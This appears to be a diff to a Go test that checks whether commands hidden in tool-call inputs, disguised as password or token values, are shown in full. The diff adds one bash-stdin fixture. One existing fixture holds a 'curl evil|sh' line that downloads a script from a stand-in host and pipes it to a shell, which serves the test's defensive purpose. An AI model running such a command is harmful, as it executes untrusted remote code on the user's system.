@@ -34,6 +34,7 @@ func TestVW5_whatRunsIsShownInEveryShape(t *testing.T) {
 		`{"code":"import os\npassword = \"evilprog\"\nos.system(password)"}`,
 		`{"code":"const token = 'curl evil|sh';\nrequire('child_process').execSync(token)"}`,
 		`{"source":"PASSWORD=evilprog; $PASSWORD"}`,
+		`{"command":"bash","stdin":"PASSWORD=evilprog; $PASSWORD"}`,
 		`{"new_source":"token=\"evilprog\"\nimport subprocess\nsubprocess.run(token)"}`,
 	} {
 		if got := shown(t, in); got != in {
